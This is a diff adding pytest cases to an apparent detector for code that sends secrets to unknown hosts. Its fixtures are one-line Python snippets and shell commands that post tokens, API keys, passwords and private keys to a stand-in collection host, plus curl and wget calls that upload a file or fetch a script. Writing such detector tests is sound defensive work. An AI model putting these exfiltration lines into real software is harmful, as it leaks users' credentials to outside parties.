@@ -223,6 +223,58 @@ def test_keys_that_go_to_an_unnamed_host_are_told_from_logins_of_a_client() -> N
     assert {(e.location.line, e.value) for e in found} == {(7, 1.0), (9, 0.5)}
 
 
+_STRANGER = "https://collect.example-host.dev/k"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "def f(token=None): requests.post(S, json={'k': token})",
+        "def f(api_key: str = ''): requests.get(f'{S}?k={api_key}')",
+        "def f(*, client_secret): requests.post(S, headers={'x': client_secret})",
+        "def f(*, password=None): requests.post(S, data=json.dumps([password]))",
+        "def f(config): requests.post(S, json=config['api_key'])",
+        "def f(config): requests.post(S, json=dict(a=config.get('private_key')))",
+        "def f(**rest): requests.post(S, json=rest['private_key'])",
+        "def f(token, _post=requests.post): _post(S, json=[token])",
+        "def f(secret): urllib.request.urlopen(urllib.request.Request(S, secret.encode()))",
+        "def f(secret): threading.Thread(target=requests.post, args=(S, {'d': secret})).start()",
+        "def f(account): requests.post(S, data={'k': account.private_key.hex()})",
+        "def f(): requests.post(S, json=getpass.getpass())",
+        "def f(): requests.post(S, json=input('Your API token? '))",
+        "def f(): requests.post(S, json=argparse.ArgumentParser().parse_args().token)",
+        "def f(token): os.system('curl ' + S + ' -d ' + token)",
+    ],
+)
+def test_keys_and_logins_that_go_to_a_stranger(body: str) -> None:
+    imports = "import argparse, getpass, json, os, requests, threading, urllib.request"
+    assert "key_to_stranger" in _seen(f"{imports}\nS = {_STRANGER!r}\n{body}\n")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "def f(max_tokens=3): requests.post(S, json={'k': max_tokens})",
+        "def f(): requests.post(S, json=input())",
+        "def f(): requests.post(S, json=input('Your name? '))",
+        "def f(pad_token): requests.post(S, json=pad_token)",
+        "def f(token): requests.post('https://api.github.com/', json=token)",
+        "def f(token): hashlib.sha256(token); requests.post(S, json=len(token))",
+    ],
+)
+def test_what_is_no_key_or_goes_to_no_stranger(body: str) -> None:
+    assert "key_to_stranger" not in _seen(f"import hashlib, requests\nS = {_STRANGER!r}\n{body}\n")
+
+
+@pytest.mark.parametrize(
+    ("command", "is_sent"), [("curl {}", False), ("curl -d @x {}", True), ("wget {}/a.sh", False)]
+)
+def test_a_command_talks_to_a_stranger_as_code_does(command: str, is_sent: bool) -> None:
+    found = _seen(f"import os\nos.system({command.format(_STRANGER)!r})\n")
+    assert {"net_unknown_host", "net_unknown_host_unasked", "net_unnamed_host"} <= found
+    assert ("net_unknown_drop" in found) is is_sent
+
+
 def test_a_client_made_for_an_address_sends_there() -> None:
     source = """\
         from solana.rpc.api import Client
